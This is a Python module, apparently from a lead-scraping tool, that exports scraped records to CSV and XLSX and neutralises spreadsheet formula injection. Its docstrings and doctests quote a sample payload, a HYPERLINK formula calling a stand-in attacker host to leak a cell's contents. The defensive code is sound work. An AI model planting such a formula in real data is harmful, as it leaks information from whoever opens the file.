"""Results as spreadsheets: CSV that Excel opens as UTF-8, and XLSX.

A POI's fields come from a scraper, so from anyone: a cell such as
``=HYPERLINK("http://evil.example/?"&A1)`` must reach the spreadsheet as text, never
as a formula (OWASP's "CSV injection"). In CSV a text cell opening with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``, as OWASP advises; in
XLSX such a cell is written as a string with Excel's quote prefix, so it shows
unchanged and stays text.
"""

from __future__ import annotations

import csv
import io
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def flat(value: Any) -> Any:
    """Return a cell: lists joined, None empty (CSV and XLSX have no null).

    >>> flat(["a@x.fr", "b@x.fr"]), flat(None), flat(3)
    ('a@x.fr, b@x.fr', '', 3)
    """
    if value is None:
        return ""
    if isinstance(value, list):
        return ", ".join(map(str, value))
    return value


def is_formula_like(value: Any) -> bool:
    """Tell a text cell a spreadsheet would read as a formula.

    >>> is_formula_like("=1+1"), is_formula_like("+33 1 23"), is_formula_like(-5)
    (True, True, False)
    """
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    r"""Return the CSV cell for ``value``, neutralised when it could run as a formula.

    >>> csv_cell('=HYPERLINK("http://evil.example")'), csv_cell("contact@x.fr")
    ('\'=HYPERLINK("http://evil.example")', 'contact@x.fr')
    """
    cell = flat(value)
    return "'" + cell if is_formula_like(cell) else cell


def columns_of(rows: list[dict[str, Any]]) -> list[str]:
    """Return every row's keys, in order of first appearance."""
    seen: dict[str, None] = {}
    for row in rows:
        seen.update(dict.fromkeys(row))
    return list(seen)


def to_csv(rows: list[dict[str, Any]], sep: str) -> str:
    out = io.StringIO()
    columns = columns_of(rows)
    writer = csv.writer(out, delimiter=sep, lineterminator="\r\n")
    writer.writerow([csv_cell(c) for c in columns])
    writer.writerows([csv_cell(row.get(c)) for c in columns] for row in rows)
    return out.getvalue()


def to_xlsx(rows: list[dict[str, Any]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet("leadcrawl")

    def cell(value: Any) -> Any:
        value = flat(value)
        if not is_formula_like(value):
            return value
        text = WriteOnlyCell(sheet, value)
        text.data_type = "s"  # openpyxl would store "=…" as a formula
        text.quotePrefix = True  # Excel keeps it text when the cell is edited
        return text

    columns = columns_of(rows)
    sheet.append([cell(c) for c in columns])
    for row in rows:
        sheet.append([cell(row.get(c)) for c in columns])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
